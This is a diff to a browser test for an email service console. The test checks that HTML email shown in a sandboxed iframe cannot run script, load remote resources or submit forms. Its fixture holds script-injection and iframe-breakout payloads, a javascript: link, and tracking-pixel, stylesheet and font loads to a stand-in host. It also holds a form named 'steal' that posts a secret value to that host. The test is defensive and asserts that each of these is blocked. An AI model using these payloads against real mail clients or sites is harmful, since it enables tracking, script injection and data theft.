@@ -206,7 +206,14 @@ describe('the console in Chromium', () => {
 
   it("renders an email's HTML in its sandboxed frame: no script runs, nothing is loaded from elsewhere", async () => {
     const domain = await verifiedDomain(svc, 'console-mail.example');
-    const hostile = `<h1 id="hello">Hello from the inbox</h1><script>parent.document.title = 'pwned'; document.body.dataset.ran = 'yes';</script><img src="http://198.51.100.7/pixel.png" alt="pixel"><a href="javascript:alert(1)">x</a>"></iframe><script>document.title='escaped'</script>`;
+    const hostile = [
+      `<style>h1 { color: rgb(1, 2, 3) } @import url("http://198.51.100.7/import.css"); @font-face { font-family: far; src: url("http://198.51.100.7/font.woff") } p.bg { background: url("http://198.51.100.7/bg.png"); font-family: far }</style>`,
+      `<link rel="stylesheet" href="http://198.51.100.7/sheet.css">`,
+      `<h1 id="hello">Hello from the inbox</h1><p id="inline" class="bg" style="color: rgb(4, 5, 6)">Styled inline</p>`,
+      `<script>parent.document.title = 'pwned'; document.body.dataset.ran = 'yes';</script><img src="http://198.51.100.7/pixel.png" alt="pixel"><a href="javascript:alert(1)">x</a>`,
+      `<form id="steal" action="http://198.51.100.7/steal" method="post"><input name="q" value="secret"><button id="send">Send</button></form>`,
+      `"></iframe><script>document.title='escaped'</script>`,
+    ].join('');
     const sent = await svc.call('POST', '/v1/emails', { body: { from: `shop@${domain.domain}`, to: ['ada@example.com'], subject: 'Your <b>order</b>', html: hostile } });
     expect(sent.status, sent.text).toBe(201);
     for (let i = 0; i < 20 && (await svc.call('GET', '/v1/sandbox/mailbox')).body.data.length === 0; i++) await svc.advanceJobs(1);
@@ -217,11 +224,19 @@ describe('the console in Chromium', () => {
     const frame = page.frameLocator('iframe.email-frame');
     expect(await frame.locator('#hello').textContent()).toBe('Hello from the inbox');
     expect(await frame.locator('body').getAttribute('data-ran')).toBeNull();
+    // The email's own styles apply (its <style> and its style attributes), inside the frame only.
+    expect(await frame.locator('#hello').evaluate((el) => getComputedStyle(el).color)).toBe('rgb(1, 2, 3)');
+    expect(await frame.locator('#inline').evaluate((el) => getComputedStyle(el).color)).toBe('rgb(4, 5, 6)');
+    expect(await page.locator('h1').evaluate((el) => getComputedStyle(el).color)).not.toBe('rgb(1, 2, 3)');
+    // Its form goes nowhere (sandboxed: no allow-forms; form-action 'none').
+    await frame.locator('#send').click();
+    expect(await frame.locator('#hello').textContent()).toBe('Hello from the inbox');
     expect(await page.title()).toBe('Mail sandbox · svc console');
     expect(await page.locator('iframe.email-frame').getAttribute('sandbox')).toBe('');
     expect(await seriousAxeIssues(page)).toEqual([]);
     // The frame's script and image were refused (logged as such); nothing else went wrong.
     expect(w.consoleErrors.filter((e) => !/sandboxed|Content Security Policy|198\.51\.100\.7/.test(e))).toEqual([]);
+    // Nothing reached the network: no image, stylesheet, @import, font, CSS url() or form post.
     expect(w.offOrigin).toEqual([]);
     await page.screenshot({ path: join(ARTIFACTS, 'console-mail.png'), fullPage: true });
     await page.context().close();
